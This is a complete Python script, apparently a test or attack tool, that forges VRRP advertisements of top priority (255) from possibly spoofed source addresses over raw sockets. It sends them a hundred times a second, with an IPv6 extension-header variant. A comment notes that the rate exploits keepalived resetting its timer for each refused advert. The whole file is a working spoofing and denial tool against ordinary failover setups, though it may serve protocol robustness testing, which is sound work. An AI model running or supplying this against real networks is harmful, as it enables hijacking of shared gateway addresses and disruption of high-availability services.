#!/usr/bin/python3
"""
forge-adverts.py SECONDS VRID {ADDRESS SOURCE DESTINATION}...: sends VRRP adverts (RFC 9568) of priority 255 for each
ADDRESS from SOURCE, which may be another host's, to DESTINATION, a hundred a second, and as many behind an extension
header where it is IPv6. They leave with TTL or hop limit 255.
"""

import ipaddress
import socket
import struct
import sys
import time

VRRP = 112
TTL = 255
# Far shorter than the interval of the nodes' adverts: keepalived counts that anew for every advert that it refuses.
PERIOD = 0.01
CENTISECONDS = 20
DESTINATION_OPTIONS = 60
# An extension header with six bytes of padding.
EXTENSION = struct.pack("!BBBB4x", VRRP, 0, 1, 4)

Address = ipaddress.IPv4Address | ipaddress.IPv6Address


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(vrid: int, address: Address, source: Address, destination: Address, extended: bool = False) -> bytes:
    """A whole packet, with its IP header."""
    start = struct.pack("!BBBBH", 0x31, vrid, 255, 1, CENTISECONDS)
    length = len(start) + 2 + len(address.packed)
    pseudo = source.packed + destination.packed
    pseudo += struct.pack("!BBH", 0, VRRP, length) if source.version == 4 else struct.pack("!IxxxB", length, VRRP)
    total = checksum(pseudo + start + b"\0\0" + address.packed)
    payload = start + struct.pack("!H", total) + address.packed
    if source.version == 4:
        header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, TTL, VRRP, 0)
        return header + source.packed + destination.packed + payload
    first, payload = (DESTINATION_OPTIONS, EXTENSION + payload) if extended else (VRRP, payload)
    return struct.pack("!IHBB", 6 << 28, len(payload), first, TTL) + source.packed + destination.packed + payload


def main(words: list[str]) -> None:
    seconds, vrid = float(words[0]), int(words[1])
    given = [ipaddress.ip_address(word) for word in words[2:]]
    packets: list[tuple[bytes, Address]] = []
    while given:
        address, source, destination, *given = given
        packets.append((advert(vrid, address, source, destination), destination))
        if destination.version == 6:
            packets.append((advert(vrid, address, source, destination, extended=True), destination))
    senders = {
        4: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
        6: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW),
    }
    # For destinations that are valid on a link only.
    device = socket.if_nametoindex("eth0")
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for packet, destination in packets:
            where = (str(destination), 0) if destination.version == 4 else (str(destination), 0, 0, device)
            senders[destination.version].sendto(packet, where)
        time.sleep(PERIOD)


main(sys.argv[1:])
